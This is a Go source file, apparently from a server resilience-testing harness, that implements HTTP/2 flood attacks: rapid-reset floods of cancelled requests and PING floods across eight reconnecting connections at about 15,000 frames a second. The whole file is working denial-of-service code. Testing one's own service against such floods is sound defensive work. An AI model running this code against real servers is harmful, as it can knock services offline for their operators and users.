package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floodBatch is the number of streams or frames that an attacker sends in one write.
const floodBatch = 150

// floods are the attacks by frames of HTTP/2 instead of requests, 15,000 a second.
var floods = []attack{
	{name: "resets of HTTP/2", connections: 8, every: 10 * time.Millisecond, frames: (*flood).reset},
	{name: "pings of HTTP/2", connections: 8, every: 10 * time.Millisecond, frames: (*flood).ping},
}

// flood is a connection of an attacker that does not wait for responses.
type flood struct {
	*http2.Framer
	conn   net.Conn // nil before the first frame and after a failure
	next   bytes.Buffer
	stream uint32
}

// send sends the next frames, over a new connection if the server has ended the one before.
func (f *flood) send(ctx context.Context, address string, add func(*flood) error) bool {
	if f.conn == nil {
		conn, err := dial(ctx, address, attackerAddress, true, "h2")
		if err != nil {
			return false
		}
		f.conn, f.stream = conn, 1
		f.next.Reset()
		f.next.WriteString(http2.ClientPreface)
		f.Framer = http2.NewFramer(&f.next, nil)
		if f.WriteSettings() != nil {
			return false
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }() // until the connection ends
	}
	if add(f) != nil {
		return false
	}
	_ = f.conn.SetWriteDeadline(time.Now().Add(time.Second))
	_, err := f.next.WriteTo(f.conn)
	if err != nil {
		f.close()
	}
	return err == nil
}

func (f *flood) close() {
	if f.conn != nil {
		_ = f.conn.Close()
	}
	f.conn = nil
}

// reset adds requests that are cancelled immediately.
func (f *flood) reset() error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0) // so that all requests have the same bytes
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", secureName}, {":path", listPath}, {"x-tenant", uid},
	} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return err
		}
	}
	for range floodBatch {
		f.stream += 2
		request := http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}
		if err := errors.Join(f.WriteHeaders(request), f.WriteRSTStream(f.stream, http2.ErrCodeCancel)); err != nil {
			return err
		}
	}
	return nil
}

// ping adds PINGs.
func (f *flood) ping() error {
	for range floodBatch {
		if err := f.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}
